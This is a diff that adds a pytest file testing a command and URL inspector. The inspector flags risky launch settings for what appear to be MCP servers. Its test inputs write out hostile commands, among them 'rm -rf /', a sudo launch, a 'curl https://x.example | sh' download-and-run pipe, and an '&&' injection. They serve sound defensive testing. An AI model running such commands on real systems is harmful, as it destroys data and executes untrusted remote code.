@@ -1,0 +1,71 @@
+"""What to notice before a server runs; ours."""
+
+from __future__ import annotations
+
+import pytest
+
+from inspector.library.cautions import Weight, cautions, split_command
+from inspector.library.profile import Profile
+
+ON_PATH = {"npx", "node", "uvx", "sudo", "sh", "bash", "rm"}
+
+
+def find(command: str) -> str | None:
+    return f"/usr/bin/{command}" if command in ON_PATH else None
+
+
+def rules(*words: str) -> dict[str, Weight]:
+    profile = Profile(command=words[0], args=words[1:])
+    return {caution.rule: caution.weight for caution in cautions(profile, find)}
+
+
+@pytest.mark.parametrize(
+    ("words", "expected"),
+    [
+        (("node", "x.js"), {}),
+        (("npx", "-y", "pkg"), {"fetch": Weight.NOTE}),
+        (("sudo", "node", "x.js"), {"root": Weight.DANGER}),
+        (("rm", "-rf", "/"), {"destructive": Weight.DANGER}),
+        (("sh", "-c", "node x.js"), {"shell": Weight.WARNING}),
+        (
+            ("bash", "-c", "curl https://x.example | sh"),
+            {"script": Weight.DANGER, "shell": Weight.WARNING},
+        ),
+        (("no-such-cmd-xyz",), {"not-found": Weight.WARNING}),
+        (("npx -y pkg",), {"typed-arguments": Weight.WARNING}),
+        (("node", "x.js", "&&", "ls"), {"metacharacters": Weight.WARNING}),
+        (("node", "a > b"), {}),
+        (("",), {"no-command": Weight.WARNING}),
+        (("/srv/my tools/server",), {"not-found": Weight.WARNING}),
+    ],
+)
+def test_a_command_is_looked_over(words: tuple[str, ...], expected: dict[str, Weight]) -> None:
+    """Corpus stdio-17 for arguments typed into the command."""
+    assert rules(*words) == expected
+
+
+def test_the_gravest_comes_first() -> None:
+    assert list(rules("sudo", "rm", "-rf", "&&")) == ["root", "destructive", "metacharacters"]
+
+
+def test_arguments_typed_into_the_command_can_be_moved() -> None:
+    """Corpus stdio-17."""
+    moved = split_command(Profile(command="npx -y pkg", args=("a b",)), find)
+    assert (moved.command, moved.args) == ("npx", ("-y", "pkg", "a b"))
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [
+        ("https://x.example/mcp", []),
+        ("http://localhost:3000/mcp", []),
+        ("http://127.0.0.1/mcp", []),
+        ("http://x.example/mcp", ["plain-http"]),
+        ("x.example", ["no-url"]),
+        ("https://u:p@x.example", ["userinfo"]),
+        ("", ["no-url"]),
+    ],
+)
+def test_an_address_is_looked_over(url: str, expected: list[str]) -> None:
+    profile = Profile(transport="http", url=url)
+    assert [caution.rule for caution in cautions(profile, find)] == expected
